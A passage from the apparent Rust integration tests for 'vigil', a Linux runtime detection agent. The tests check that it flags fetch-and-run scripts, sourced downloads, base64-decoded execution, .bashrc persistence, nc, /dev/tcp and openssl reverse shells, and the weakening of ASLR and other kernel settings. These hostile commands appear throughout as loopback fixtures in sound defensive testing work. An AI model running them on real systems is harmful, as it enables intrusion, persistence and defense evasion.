        (
            "wget-O",
            format!("wget -q -O w1 {url}/true.bin"),
            "/usr/bin/wget",
        ),
        (
            "curl-redirect",
            format!("curl -s {url}/true.bin > c1"),
            "/usr/bin/curl",
        ),
    ] {
        let found = script(
            &format!("{name}.sh"),
            &format!("rm -f c1 w1\n{fetch}\nchmod +x c1 w1 2>/dev/null\n./c1 2>/dev/null || ./w1"),
        );
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type, "Execution:Runtime/SuspiciousCommand",
            "{name}"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
        assert_eq!(f[0].context.additional["downloadedBy"], writer, "{name}");
    }
    // Caldera's agent deployment as its sh executor runs it (`sh -c`): dash opens the
    // redirection's file itself and vforks curl onto it, so the kernel names the program on
    // the file's standard output at its exec as the writer, not the shell. Benign twin: the
    // same with `cat` of a local binary.
    for (name, fetch, expected) in [
        (
            "dash-curl-post-redirect",
            format!(
                "curl -s -X POST -H 'file:sandcat.go' -H 'platform:linux' {url}/true.bin > splunkd"
            ),
            1,
        ),
        ("dash-cat-redirect", "cat /bin/true > splunkd".to_owned(), 0),
    ] {
        let found = detect(run(Command::new("/bin/sh")
            .args([
                "-c",
                &format!(
                    "rm -f splunkd; {fetch}; chmod +x splunkd; ./splunkd -server {url} -group red -v"
                ),
            ])
            .current_dir(&dir.0)));
        let f = of(&found, rule_id);
        assert_eq!(f.len(), expected, "{name}: {:?}", kinds(&found));
        if expected > 0 {
            assert_eq!(
                f[0].context.additional["downloadedBy"], "/usr/bin/curl",
                "{name}"
            );
        }
    }
    // A `#!` script fetched, made executable and run: its writer is read from the kernel's
    // written-files map at exec.
    // And handed to an interpreter: the agent reads the script operand with the interpreter's
    // grammar.
    let exec_it = "chmod +x r1.sh\n./r1.sh";
    let passed = "script passed to an interpreter";
    for (name, fetch, run, what, writer) in [
        (
            "curl-script",
            "curl -s -o",
            exec_it,
            "script",
            "/usr/bin/curl",
        ),
        (
            "wget-script",
            "wget -q -O",
            exec_it,
            "script",
            "/usr/bin/wget",
        ),
        ("curl-sh", "curl -s -o", "sh r1.sh", passed, "/usr/bin/curl"),
        (
            "curl-stdin",
            "curl -s -o",
            "sh < r1.sh",
            "script read on standard input",
            "/usr/bin/curl",
        ),
        (
            "wget-bash-stdin",
            "wget -q -O",
            "bash -s < ./r1.sh",
            "script read on standard input",
            "/usr/bin/wget",
        ),
        (
            "wget-bash",
            "wget -q -O",
            "bash -x ./r1.sh 2>/dev/null",
            passed,
            "/usr/bin/wget",
        ),
        // An inline program that loads the file as code.
        (
            "curl-python-exec",
            "curl -s -o",
            "python3 -c \"exec(open('r1.sh').read())\" 2>/dev/null",
            passed,
            "/usr/bin/curl",
        ),
    ] {
        let found = script(
            &format!("{name}.sh"),
            &format!("rm -f r1.sh\n{fetch} r1.sh {url}/run.sh\n{run}"),
        );
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
        assert_eq!(f[0].context.additional["downloadedBy"], writer, "{name}");
        assert_eq!(f[0].context.additional["executedFile"], what, "{name}");
        // A script read on standard input is named by the path its shell's fd 0 held, read
        // while the shell runs: one that has exited by then is `standard input` (its writer
        // comes from the kernel's identity of the file either way).
        let path = f[0].context.file_path.as_deref();
        assert!(
            path == Some(dir.path("r1.sh").as_str())
                || (what == "script read on standard input" && path == Some("standard input")),
            "{name}: {path:?}"
        );
    }
    // A `#!` script fetched and run that removes itself at once (a self-deleting dropper):
    // often gone before the agent can look at its file or at the process's executable. The
    // shell's open of it, with the writer the kernel recorded, still names the download (the
    // process is known to be the interpreter from the argv the kernel wrote and the inode it
    // ran: `pipeline::tests::a_gone_script_runs_its_interpreter_when_the_inode_says_so`).
    for round in 0..3 {
        let found = script(
            &format!("removed-{round}.sh"),
            &format!("rm -f r1.sh\ncurl -s -o r1.sh {url}/selfdel.sh\nchmod +x r1.sh\n./r1.sh"),
        );
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "removed, round {round}: {:?}", kinds(&found));
        assert_eq!(f[0].context.additional["downloadedBy"], "/usr/bin/curl");
        assert_eq!(
            f[0].context.file_path.as_deref(),
            Some(dir.path("r1.sh").as_str())
        );
    }
    // Benign: a binary copied, not downloaded, and run; a script written locally and run; a
    // download that is not run.
    let found = script(
        "copied.sh",
        &format!(
            "cp /usr/bin/true t2\n./t2\nprintf '#!/bin/sh\\ntrue\\n' > l.sh\nchmod +x l.sh\n./l.sh\nsh l.sh\n\
             curl -s -o data.json {url}/v.json"
        ),
    );
    assert!(of(&found, rule_id).is_empty(), "{:?}", kinds(&found));
    assert!(
        found.iter().all(|f| f.severity_label == SeverityLabel::Low),
        "nothing at Medium or above: {:?}",
        kinds(&found)
    );
}

/// Scripts the running shell reads itself (`. x.sh`, `source x.sh`): no exec names them. The
/// kernel reports a shell's read-only open of a file another process wrote or one on a tmpfs,
/// and a `dup2` of that fd (a redirection: data); the detector judges the open at the shell's
/// next fork, exec or exit.
#[test]
fn scripts_sourced_by_the_running_shell() {
    if !privileged("scripts_sourced_by_the_running_shell") {
        return;
    }
    let url = http_server();
    let dir = Scratch::new("sourced");
    let n = nonce();
    let mut clean = Cleanup::default();
    let shm_script = clean.file(format!("/dev/shm/vigil-{n}-src.sh"));
    std::fs::write(&shm_script, "true\n").expect("script in /dev/shm");
    let shm_data = clean.file(format!("/dev/shm/vigil-{n}-data"));
    std::fs::write(&shm_data, "a\nb\n").expect("data in /dev/shm");
    // Each form as lines of a script file, run by `shell`.
    let script = |shell: &str, name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("{body}\n")).expect("script");
        detect(run(Command::new(shell).arg(&path).current_dir(&dir.0)))
    };
    let what = "script read by a running shell";
    let by_perl = "script read by a running interpreter";
    let download = "behaviour-download-exec";
    for (name, shell, body, writer, read) in [
        (
            "curl-dot",
            "/bin/bash",
            format!("curl -s -o x1.sh {url}/x.sh\n. ./x1.sh"),
            "/usr/bin/curl",
            what,
        ),
        (
            "wget-source",
            "/bin/bash",
            format!("wget -q -O x2.sh {url}/x.sh\nsource x2.sh"),
            "/usr/bin/wget",
            what,
        ),
        (
            "curl-dot-dash",
            "/bin/sh",
            format!("curl -s -o x3.sh {url}/x.sh\n. ./x3.sh\necho done"),
            "/usr/bin/curl",
            what,
        ),
        (
            "curl-perl-do",
            "/bin/bash",
            format!("curl -s -o x4.pl {url}/x.pl\nperl -e 'do \"./x4.pl\"'"),
            "/usr/bin/curl",
            by_perl,
        ),
    ] {
        let found = script(shell, &format!("{name}.sh"), &body);
        let f = of(&found, download);
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
        assert_eq!(f[0].context.additional["downloadedBy"], writer, "{name}");
        assert_eq!(f[0].context.additional["executedFile"], read, "{name}");
        assert!(
            f[0].context.file_path.as_deref().is_some_and(|p| {
                p.starts_with(dir.0.to_str().unwrap_or("-"))
                    && (p.ends_with(".sh") || p.ends_with(".pl"))
            }),
            "{name}: {:?}",
            f[0].context.file_path
        );
    }
    let memory = "behaviour-exec-from-memory-dir";
    for (name, shell, body) in [
        ("shm-dot", "/bin/bash", format!(". {shm_script}")),
        ("shm-source", "/bin/bash", format!("source {shm_script}")),
        (
            "shm-perl-do",
            "/bin/bash",
            format!("perl -e 'do \"{shm_script}\"'"),
        ),
        (
            "shm-dot-dash",
            "/bin/sh",
            format!(". {shm_script}\nls >/dev/null"),
        ),
    ] {
        let found = script(shell, &format!("{name}.sh"), &body);
        let f = of(&found, memory);
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::Medium, "{name}");
        assert_eq!(f[0].context.file_path.as_deref(), Some(shm_script.as_str()));
        let read = if name.contains("perl") { by_perl } else { what };
        assert_eq!(f[0].context.additional["executedFile"], read, "{name}");
    }
    // Benign: a download read as data by bash (redirections, `$(< f)`, `exec 3< f` and
    // `read -u 3`: bash sources only after an `fstat` of the fd) and by dash (a redirection
    // dup2s the fd), by a program that is not a shell, by python, by perl (`-n`, `open`: perl
    // `fstat`s a data file, not one it runs); a script the shell wrote itself; /dev/shm data
    // redirected into a loop or read by cat.
    for (name, shell, body) in [
        (
            "read-loop",
            "/bin/bash",
            format!(
                "curl -s -o list.txt {url}/list\nwhile read -r l; do :; done < list.txt\n\
                 read -r v < list.txt\nmapfile -t a < list.txt\ngrep -q x list.txt\n\
                 v=$(< list.txt)\nexec 3< list.txt\nwhile read -r -u 3 l; do :; done\n\
                 exec 3<&-\nls >/dev/null\n\
                 python3 -c \"import json; json.load(open('list.txt'))\"\ncat list.txt >/dev/null\n\
                 perl -ne 1 list.txt\nperl -e 'open(my $f, \"<\", \"list.txt\"); my @l = <$f>'"
            ),
        ),
        (
            "read-loop-dash",
            "/bin/sh",
            format!("wget -q -O list.txt {url}/list\nwhile read -r l; do :; done < list.txt\nls"),
        ),
        (
            "local",
            "/bin/bash",
            "printf 'true\\n' > local.sh\n. ./local.sh\nsource ./local.sh".to_owned(),
        ),
        (
            "shm-data",
            "/bin/bash",
            format!(
                "while read -r l; do :; done < {shm_data}\ncat {shm_data} >/dev/null\n\
                 grep -q a < {shm_data}"
            ),
        ),
    ] {
        let found = script(shell, &format!("{name}.sh"), &body);
        let serious: Vec<_> = found
            .iter()
            .filter(|f| f.severity_label != SeverityLabel::Low)
            .map(|f| (rule(f), &f.process, &f.context.additional))
            .collect();
        assert!(
            serious.is_empty(),
            "{name}: nothing at Medium or above: {serious:#?}"
        );
    }
}

/// A download the running shell reads as its program through a pipe, with no exec on that
/// pipe: `source <(curl URL)` (bash opens `/dev/fd/63`), `curl URL | source /dev/stdin` (the
/// pipeline's subshell). The kernel sends the shell's open of the pipe once bash `fstat`s it
/// (sourcing, not a redirection); the exec records name the pipe's writer.
#[test]
fn a_download_sourced_from_a_pipe_by_the_running_shell() {
    if !privileged("a_download_sourced_from_a_pipe_by_the_running_shell") {
        return;
    }
    let url = http_server();
    let dir = Scratch::new("sourced-pipe");
    let script = |name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("{body}\n")).expect("script");
        detect(run(Command::new("/bin/bash")
            .arg(&path)
            .current_dir(&dir.0)))
    };
    for (name, body, via) in [
        (
            "source-procsub",
            format!("source <(curl -s {url}/x.sh)\necho done"),
            "/dev/fd/",
        ),
        (
            "dot-procsub",
            format!(". <(curl -s {url}/x.sh)"),
            "/dev/fd/",
        ),
        (
            "source-stdin",
            format!("curl -s {url}/x.sh | source /dev/stdin\nls >/dev/null"),
            "/dev/stdin",
        ),
    ] {
        let found = script(&format!("{name}.sh"), &body);
        let f = of(&found, "behaviour-download-pipe-exec");
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
        let add = &f[0].context.additional;
        assert_eq!(add["pipeWriter"], "/usr/bin/curl", "{name}");
        assert!(add["programReadFrom"].starts_with(via), "{name}: {add:?}");
    }
    // Read as data (a redirection dup2s the pipe: no `fstat`), a local file through a filter,
    // a builtin's output.
    // Not named after a script of this test: `source <(cat lib.sh)` must not source itself.
    std::fs::write(dir.path("lib.sh"), "true\n").expect("local script");
    for (name, body) in [
        (
            "data",
            format!(
                "while read -r l; do :; done < <(curl -s {url}/list)\n\
                 mapfile -t a < <(curl -s {url}/list)\nls >/dev/null"
            ),
        ),
        (
            "local",
            "source <(cat lib.sh)\nsource <(printf 'true\\n')\nls >/dev/null".to_owned(),
        ),
    ] {
        let found = script(&format!("{name}.sh"), &body);
        let serious: Vec<_> = found
            .iter()
            .filter(|f| f.severity_label != SeverityLabel::Low)
            .map(|f| (rule(f), &f.context.additional))
            .collect();
        assert!(serious.is_empty(), "{name}: {serious:#?}");
    }
}

/// A download or a decode captured by the script's shell (`$(...)`) and handed to a shell as
/// its program: `bash -c "$(curl URL)"` as a line of a script. No pipe reaches the shell that
/// runs it; the exec records show a downloader writing into a pipe that nothing exec'd reads,
/// then the script's next child running an inline program. A script (more than one line) is
/// High, one line Low.
#[test]
fn a_download_captured_by_the_script_and_run_as_a_command_string() {
    if !privileged("a_download_captured_by_the_script_and_run_as_a_command_string") {
        return;
    }
    let url = http_server();
    let dir = Scratch::new("substituted");
    let script = |shell: &str, name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("{body}\n")).expect("script");
        detect(run(Command::new(shell).arg(&path).current_dir(&dir.0)))
    };
    // `true` twice, and once, in base64.
    let two_lines = "dHJ1ZQp0cnVlCg==";
    let one_line = "dHJ1ZQo=";
    for (name, shell, body, rule_id, severity) in [
        (
            "bash-c-curl",
            "/bin/bash",
            format!("bash -c \"$(curl -s {url}/run.sh)\""),
            "behaviour-download-pipe-exec",
            SeverityLabel::High,
        ),
        (
            "sh-c-curl-dash",
            "/bin/sh",
            format!("sh -c \"$(curl -s {url}/run.sh)\"\necho done"),
            "behaviour-download-pipe-exec",
            SeverityLabel::High,
        ),
        (
            "bash-c-curl-one-line",
            "/bin/bash",
            format!("bash -c \"$(curl -s {url}/x.sh)\""),
            "behaviour-download-pipe-exec",
            SeverityLabel::Low,
        ),
        (
            "sh-c-base64",
            "/bin/bash",
            format!("sh -c \"$(echo {two_lines} | base64 -d)\""),
            "behaviour-decode-pipe-exec",
            SeverityLabel::High,
        ),
        (
            "sh-c-base64-one-line",
            "/bin/bash",
            format!("sh -c \"$(echo {one_line} | base64 -d)\""),
            "behaviour-decode-pipe-exec",
            SeverityLabel::Low,
        ),
    ] {
        let found = script(shell, &format!("{name}.sh"), &body);
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, severity, "{name}");
        assert_eq!(
            f[0].context.additional["programReadFrom"],
            "its command-line argument (command substitution)",
            "{name}"
        );
    }
    // A download kept in a variable and run by a later line, other commands between: the
    // exec records alone cannot tie the inline program to the download, the script's text
    // does (`sh -c "$v"`).
    let found = script(
        "/bin/bash",
        "later.sh",
        &format!("v=$(curl -s {url}/run.sh)\nls >/dev/null\nsh -c \"$v\""),
    );
    let high: Vec<_> = of(&found, "behaviour-download-pipe-exec")
        .into_iter()
        .filter(|f| f.severity_label == SeverityLabel::High)
        .collect();
    assert_eq!(high.len(), 1, "later: {:?}", kinds(&found));
    assert_eq!(
        high[0].context.additional["programReadFrom"],
        "a command substitution its script evaluates"
    );
    // A fetched value used as data, a pipe into an inline program's standard input.
    for (name, body) in [
        (
            "value",
            format!(
                "v=$(curl -s {url}/list)\npython3 -c 'import json, sys; json.loads(sys.argv[1])' \"$v\""
            ),
        ),
        (
            "stdin",
            format!("curl -s {url}/list | python3 -c 'import sys; sys.stdin.read()'"),
        ),
    ] {
        let found = script("/bin/bash", &format!("{name}.sh"), &body);
        let serious: Vec<_> = found
            .iter()
            .filter(|f| f.severity_label != SeverityLabel::Low)
            .map(|f| (rule(f), &f.context.additional))
            .collect();
        assert!(serious.is_empty(), "{name}: {serious:#?}");
    }
}

/// Runs `script` as a script file (`sh FILE`), so that no argv holds what it does: the way a
/// third-party test or a dropped script runs it.
fn sh_file(dir: &Scratch, name: &str, script: &str) -> u32 {
    let file = dir.path(name);
    std::fs::write(&file, script).expect("script");
    run(Command::new("/bin/sh").arg(&file))
}

#[test]
fn shell_start_up_files_written_as_persistence() {
    if !privileged("shell_start_up_files_written_as_persistence") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let scratch = Scratch::new("startup");
    // A home of its own: start-up files are matched by name in any directory.
    let home = scratch.0.join("home");
    std::fs::create_dir_all(&home).expect("home");
    let bashrc = home.join(".bashrc").display().to_string();
    let profile = home.join(".profile").display().to_string();
    std::fs::write(&bashrc, "# vigil test\n").expect(".bashrc");
    let profile_d = clean.file(format!("/etc/profile.d/vigil-{n}.sh"));
    for (what, script, path) in [
        (
            "a line appended to .bashrc",
            format!("echo 'curl -s http://127.0.0.1:1/x | sh' >> {bashrc}\n"),
            &bashrc,
        ),
        (
            "a .profile written",
            format!("printf 'true\\n' > {profile}\n"),
            &profile,
        ),
        (
            "a script dropped into /etc/profile.d",
            format!("echo true > {profile_d}\n"),
            &profile_d,
        ),
    ] {
        let pid = sh_file(&scratch, "persist.sh", &script);
        let found = detect(pid);
        let f = of(&found, "behaviour-persistence-shell-startup");
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
        assert_eq!(f[0].context.file_path.as_deref(), Some(path.as_str()));
        assert_eq!(
            f[0].context
                .additional
                .get("persistenceKind")
                .map(String::as_str),
            Some("shell")
        );
    }
    // Benign: reading them, and a file whose name only ends like one.
    let pid = sh_file(
        &scratch,
        "read.sh",
        &format!("cat {bashrc} {profile} {profile_d} >/dev/null\n"),
    );
    assert!(detect(pid).is_empty(), "reads");
    let lookalike = home.join("notes.bashrc").display().to_string();
    let pid = sh_file(&scratch, "other.sh", &format!("echo x > {lookalike}\n"));
    assert!(
        of(&detect(pid), "behaviour-persistence-shell-startup").is_empty(),
        "notes.bashrc"
    );
}

/// A loopback listener that sends `text` to each connection and closes it; its port.
fn serve_text(text: &'static [u8]) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            std::thread::spawn(move || {
                let _ = conn.write_all(text);
                std::thread::sleep(Duration::from_millis(300));
            });
        }
    });
    port
}

#[test]
fn a_shell_fed_by_a_network_relay_is_a_reverse_shell() {
    if !privileged("a_shell_fed_by_a_network_relay_is_a_reverse_shell") {
        return;
    }
    if !Path::new("/usr/bin/nc.openbsd").exists() {
        eprintln!("skipped: netcat-openbsd is not installed (scripts/bootstrap.sh installs it)");
        assert!(std::env::var_os("CI").is_none(), "nc missing under CI");
        return;
    }
    let port = serve_text(b"true\n");
    let scratch = Scratch::new("relay");
    let fifo = scratch.path("f");
    // The forms of the cheat sheets, as lines of a script: no argv holds the pipe.
    for (what, script) in [
        ("nc host port | sh", format!("nc 127.0.0.1 {port} | sh\n")),
        (
            "nc host port | cat | bash",
            format!("nc 127.0.0.1 {port} | cat | bash\n"),
        ),
        (
            "mkfifo f; sh -i < f | nc host port > f",
            format!(
                "rm -f {fifo}; mkfifo {fifo}\nsh -i < {fifo} 2>&1 | nc 127.0.0.1 {port} > {fifo}\n"
            ),
        ),
        (
            // The commonest form: `cat` opens the FIFO after its exec; the pipeline finds the
            // FIFO its operand names.
            "mkfifo f; cat f | sh -i | nc host port > f",
            format!(
                "rm -f {fifo}; mkfifo {fifo}\ncat {fifo} | sh -i 2>&1 | nc 127.0.0.1 {port} > {fifo}\n"
            ),
        ),
    ] {
        let pid = sh_file(&scratch, "relay.sh", &script);
        let found = detect(pid);
        let f = of(&found, "behaviour-reverse-shell-pipe");
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
        assert_eq!(f[0].severity_label, SeverityLabel::High);
        let writer = f[0]
            .context
            .additional
            .get("pipeWriter")
            .cloned()
            .unwrap_or_default();
        assert!(writer.ends_with("/nc.openbsd"), "{what}: {writer}");
    }
    // Benign: what nc receives read as data, and a shell's output sent with nc.
    for (what, script) in [
        (
            "nc host port | cat",
            format!("nc 127.0.0.1 {port} | cat >/dev/null\n"),
        ),
        (
            "sh -c 'echo hi' | nc host port",
            format!("sh -c 'echo hi' | nc 127.0.0.1 {port} >/dev/null\n"),
        ),
        (
            "nc host port | sh -c 'cat > file'",
            format!(
                "nc 127.0.0.1 {port} | sh -c 'cat > {}'\n",
                scratch.path("received")
            ),
        ),
        (
            "cat f | sh, the FIFO written by echo",
            format!("rm -f {fifo}; mkfifo {fifo}\necho true > {fifo} &\ncat {fifo} | sh\nwait\n"),
        ),
    ] {
        let pid = sh_file(&scratch, "benign.sh", &script);
        let found = detect(pid);
        assert!(
            of(&found, "behaviour-reverse-shell-pipe").is_empty(),
            "{what}: {:?}",
            kinds(&found)
        );
    }
}

/// bash's `/dev/tcp` reverse shell as a loop: no shell is exec'd on the socket, each command the
/// peer sends runs with its output put on the socket by the shell's fork. Benign twin: a page
/// fetched with bash (the socket on `cat`'s standard input only).
#[test]
fn commands_a_shell_loop_runs_for_a_network_peer_are_a_reverse_shell() {
    if !privileged("commands_a_shell_loop_runs_for_a_network_peer_are_a_reverse_shell") {
        return;
    }
    let port = serve_text(b"id\n");
    let scratch = Scratch::new("devtcploop");
    let bash = |name: &str, body: String| {
        let file = scratch.path(name);
        std::fs::write(&file, body).expect("script");
        detect(run(Command::new("/bin/bash").arg(&file)))
    };
    let found = bash(
        "loop.sh",
        format!(
            "exec 5<>/dev/tcp/127.0.0.1/{port}\ncat <&5 | while read line; do $line 2>&5 >&5; done\n"
        ),
    );
    let f = of(&found, "behaviour-reverse-shell-command-socket");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
    assert_eq!(f[0].severity_label, SeverityLabel::High);
    assert_eq!(
        f[0].context.additional.get("stdioPeer").map(String::as_str),
        Some(format!("127.0.0.1:{port}").as_str())
    );
    let found = bash(
        "fetch.sh",
        format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port}\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3 > {}\n",
            scratch.path("page")
        ),
    );
    assert!(
        of(&found, "behaviour-reverse-shell-command-socket").is_empty()
            && found
                .iter()
                .all(|f| f.finding_type != "Execution:Runtime/ReverseShell"),
        "a page fetched with bash: {:?}",
        kinds(&found)
    );
}

/// `openssl s_client` as the relay of a FIFO reverse shell, against a loopback `openssl
/// s_server` that sends `exit`; `openssl s_client` alone and a shell's output piped into it
/// raise nothing.
#[test]
fn a_shell_fed_by_openssl_s_client_is_a_reverse_shell() {
    if !privileged("a_shell_fed_by_openssl_s_client_is_a_reverse_shell") {
        return;
    }
    if !Path::new("/usr/bin/openssl").exists() {
        eprintln!("NOT TESTED openssl relay: no /usr/bin/openssl");
        return;
    }
    let scratch = Scratch::new("tls");
    let (key, cert) = (scratch.path("key.pem"), scratch.path("cert.pem"));
    let made = Command::new("openssl")
        .args([
            "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
        ])
        .args(["-subj", "/CN=vigil-test", "-keyout", &key, "-out", &cert])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("openssl req");
    assert!(made.success(), "a self-signed certificate");
    // A TLS server on loopback that sends `exit` to each client and keeps the line open a
    // moment (its own process, outside the tree the test looks at).
    let server = |port: u16| {
        Command::new("sh")
            .arg("-c")
            .arg(format!(
                "(echo exit; sleep 3) | timeout 20 openssl s_server -quiet -naccept 1 \
                 -accept 127.0.0.1:{port} -key {key} -cert {cert} >/dev/null 2>&1"
            ))
            .stdin(Stdio::null())
            .spawn()
            .expect("openssl s_server")
    };
    let free_port = || {
        std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .expect("a free port")
            .port()
    };
    // Listening, as the kernel's socket table says (a probe connection would take the
    // server's one accept).
    let wait_listening = |port: u16| {
        let listening = || {
            std::fs::read_to_string("/proc/net/tcp")
                .unwrap_or_default()
                .lines()
                .skip(1)
                .any(|l| {
                    let f: Vec<&str> = l.split_whitespace().collect();
                    f.len() > 3
                        && f[3] == "0A"
                        && f[1].rsplit(':').next() == Some(format!("{port:04X}").as_str())
                })
        };
        let deadline = Instant::now() + WAIT;
        while !listening() {
            assert!(Instant::now() < deadline, "s_server on {port}");
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    let fifo = scratch.path("f");
    let port = free_port();
    let mut s = server(port);
    wait_listening(port);
    let pid = sh_file(
        &scratch,
        "relay.sh",
        &format!(
            "rm -f {fifo}; mkfifo {fifo}\n\
             sh -i < {fifo} 2>&1 | timeout 15 openssl s_client -quiet -connect 127.0.0.1:{port} > {fifo}\n"
        ),
    );
    let found = detect(pid);
    let _ = s.kill();
    let _ = s.wait();
    let f = of(&found, "behaviour-reverse-shell-pipe");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
    assert_eq!(f[0].severity_label, SeverityLabel::High);
    let writer = f[0].context.additional.get("pipeWriter").cloned();
    assert_eq!(writer.as_deref(), Some("/usr/bin/openssl"));
    // Benign: the client alone, and a shell's output sent through it.
    for (what, script) in [
        (
            "openssl s_client < /dev/null",
            "timeout 15 openssl s_client -connect 127.0.0.1:PORT < /dev/null > /dev/null 2>&1\n",
        ),
        (
            "echo | openssl s_client",
            "echo | timeout 15 openssl s_client -connect 127.0.0.1:PORT > /dev/null 2>&1\n",
        ),
    ] {
        let port = free_port();
        let mut s = server(port);
        wait_listening(port);
        let pid = sh_file(
            &scratch,
            "benign.sh",
            &script.replace("PORT", &port.to_string()),
        );
        let found = detect(pid);
        let _ = s.kill();
        let _ = s.wait();
        assert!(
            of(&found, "behaviour-reverse-shell-pipe").is_empty(),
            "{what}: {:?}",
            kinds(&found)
        );
    }
}

/// Puts kernel settings back as they were (written by this process, which the agent does not
/// observe).
struct RestoreSettings(Vec<(&'static str, String)>);

/// The tests that change kernel settings run one at a time (taken before they read the values
/// to put back): two at once would each put back what the other had written, and leave the
/// machine with it (`kptr_restrict` was found at 1 after a run), or read the other's value.
static SETTINGS: std::sync::Mutex<()> = std::sync::Mutex::new(());

impl Drop for RestoreSettings {
    fn drop(&mut self) {
        for (path, value) in &self.0 {
            let _ = std::fs::write(path, value);
        }
    }
}

#[test]
fn kernel_hardening_settings_switched_off() {
    if !privileged("kernel_hardening_settings_switched_off") {
        return;
    }
    let _one_at_a_time = SETTINGS.lock().unwrap_or_else(|e| e.into_inner());
    // (file, sysctl name, weak value, a stricter value).
    let settings = [
        (
            "/proc/sys/kernel/kptr_restrict",
            "kernel.kptr_restrict",
            "0",
            "1",
        ),
        (
            "/proc/sys/kernel/yama/ptrace_scope",
            "kernel.yama.ptrace_scope",
            "0",
            "1",
        ),
        // Every perf event opened to every user, and page zero made mappable (issue 11, third
        // red-team pass).
        (
            "/proc/sys/kernel/perf_event_paranoid",
            "kernel.perf_event_paranoid",
            "-1",
            "2",
        ),
        (
            "/proc/sys/vm/mmap_min_addr",
            "vm.mmap_min_addr",
            "0",
            "65536",
        ),
    ];
    let mut restore = RestoreSettings(Vec::new());
    for (path, name, weak, strict) in settings {
        let Ok(was) = std::fs::read_to_string(path) else {
            eprintln!("NOT TESTED {name}: {path} is missing on this kernel");
            continue;
        };
        restore.0.push((path, was.trim().to_owned()));
        // The two ways a test writes it: a shell redirection and sysctl.
        for pid in [
            sh(&format!("echo {weak} > {path}")),
            run(Command::new("sysctl").args(["-q", "-w", &format!("{name}={weak}")])),
        ] {
            let found = detect(pid);
            let f = of(&found, "behaviour-kernel-hardening-weakened");
            assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
            assert_eq!(
                f[0].finding_type,
                "DefenseEvasion:Runtime/SuspiciousCommand"
            );
            assert_eq!(f[0].severity_label, SeverityLabel::Medium);
            let a = &f[0].context.additional;
            assert_eq!(a.get("setting").map(String::as_str), Some(name));
            assert_eq!(a.get("value").map(String::as_str), Some(weak));
        }
        // Made stricter: nothing.
        let pid = run(Command::new("sysctl").args(["-q", "-w", &format!("{name}={strict}")]));
        assert!(detect(pid).is_empty(), "{name}={strict}");
    }
}

/// A setting switched off and put back by the same script before anything could read it back
/// (issue 11's variation sweep: `echo 0 | tee randomize_va_space; echo 2 > ...`): the `sysctl`
/// hook (cgroup/sysctl on the cgroup v2 root) records each value as it is written. The same for
/// a hardening setting, off and on in one `sysctl -w` command line, and for the core-dump
/// handler set and put back. Writing the values the settings already had raises nothing.
#[test]
fn kernel_settings_switched_off_and_put_back_at_once() {
    if !privileged("kernel_settings_switched_off_and_put_back_at_once") {
        return;
    }
    let _one_at_a_time = SETTINGS.lock().unwrap_or_else(|e| e.into_inner());
    let aslr = "/proc/sys/kernel/randomize_va_space";
    let kptr = "/proc/sys/kernel/kptr_restrict";
    let core = "/proc/sys/kernel/core_pattern";
    let read = |path: &str| {
        std::fs::read_to_string(path)
            .unwrap_or_else(|e| panic!("read {path}: {e}"))
            .trim_end_matches('\n')
            .to_owned()
    };
    let _restore = RestoreSettings(vec![
        (aslr, read(aslr)),
        (kptr, read(kptr)),
        (core, read(core)),
    ]);
    // The starting points, written by this process (the agent's tree for each case is the
    // shell's).
    std::fs::write(aslr, "2").expect("write randomize_va_space");
    std::fs::write(kptr, "1").expect("write kptr_restrict");
    std::fs::write(core, "core").expect("write core_pattern");

    let pid = sh(&format!("echo 0 | tee {aslr} > /dev/null; echo 2 > {aslr}"));
    assert_eq!(read(aslr), "2", "the script put ASLR back");
    let found = detect(pid);
    assert_eq!(
        kinds(&found),
        [pair(
            "DefenseEvasion:Runtime/SuspiciousCommand",
            "behaviour-aslr-disabled"
        )]
    );
    assert_eq!(found[0].severity_label, SeverityLabel::High);
    assert_eq!(
        found[0].context.additional.get("value").map(String::as_str),
        Some("0")
    );

    let pid = sh("sysctl -q -w kernel.kptr_restrict=0 kernel.kptr_restrict=1");
    assert_eq!(read(kptr), "1", "sysctl put kptr_restrict back");
    let found = detect(pid);
    let f = of(&found, "behaviour-kernel-hardening-weakened");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
